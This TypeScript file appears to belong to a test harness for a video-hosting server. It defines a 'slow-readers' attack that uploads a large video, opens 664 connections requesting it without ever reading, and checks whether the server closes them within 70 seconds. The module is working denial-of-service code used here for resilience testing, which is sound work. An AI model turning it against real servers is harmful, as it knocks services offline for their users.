import { readFileSync } from 'node:fs'
import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import type { Attack, Scene } from '../attack.ts'
import { isFinished, publish, signUp, videoWhen } from '../member.ts'
import { ATTACKER, networkOfAccount } from '../networks.ts'

const WHOLE = 600
const RANGES = 64
const RANGE = 2 * 1024 ** 2
/** Milliseconds after which a connection without progress must be closed, with some to notice it. */
const CLOSED_AFTER = 60_000 + 10_000

/** A connection that sends a request and never reads. */
function neverRead(origin: string, path: string, range?: string): Socket {
  const { hostname, port } = new URL(origin)
  const socket = connect({ host: hostname, port: Number(port), localAddress: ATTACKER })
  socket.pause().on('error', () => {})
  const header = range ? `Range: ${range}\r\n` : ''
  socket.write(`GET ${path} HTTP/1.1\r\nHost: seam.test\r\n${header}\r\n`)
  return socket
}

/** How many connections of a network the server has open: a client that does not read can not tell. */
function openConnections(origin: string, network: string): number {
  const hex = (number: number, digits: number) =>
    number.toString(16).toUpperCase().padStart(digits, '0')
  const address = network
    .split('.')
    .reverse()
    .map((part) => hex(Number(part), 2))
  const port = hex(Number(new URL(origin).port), 4)
  const established = new RegExp(`^ *\\d+: \\w+:${port} ${address.join('')}:\\w{4} 01 `)
  return readFileSync('/proc/net/tcp', 'utf8')
    .split('\n')
    .filter((line) => established.test(line)).length
}

/** The path of a large file that is read as it was uploaded, once nothing more is made of it. */
async function publishLarge({ target, media }: Scene): Promise<string> {
  const owner = await signUp(target.origin, networkOfAccount(0))
  const publicId = await publish(owner, await media.large())
  const video = await videoWhen(owner, publicId, isFinished, 120)
  owner.browser.close()
  if (!video?.videoFile.url) throw new Error('the large video does not play')
  return video.videoFile.url
}

const paths = new WeakMap<Scene, string>()

export const slowReaders: Attack = {
  name: 'slow-readers',
  summary: `${WHOLE + RANGES} connections that ask for a large file and never read it`,
  attacker: 'anonymous network',
  memoryGoal: 100,
  clips: true,
  prepare: async (scene) => paths.set(scene, await publishLarge(scene)),
  async run(scene) {
    const { origin } = scene.target
    const path = paths.get(scene) ?? ''
    const sockets: Socket[] = []
    for (let n = 0; n < RANGES; n += 1) {
      sockets.push(neverRead(origin, path, `bytes=${n * RANGE}-${(n + 1) * RANGE - 1}`))
    }
    for (let n = 0; n < WHOLE; n += 1) {
      sockets.push(neverRead(origin, path))
      if (n % 50 === 0) await wait(50)
    }
    await wait(3_000)
    const open = openConnections(origin, ATTACKER)
    await wait(CLOSED_AFTER)
    const left = openConnections(origin, ATTACKER)
    for (const socket of sockets) socket.destroy()
    return {
      period: 3600,
      figures: [
        { name: 'of them open after 3 s', value: open, unit: '', goal: null },
        { name: 'of them open after 70 s', value: left, unit: '', goal: 0 },
      ],
    }
  },
}
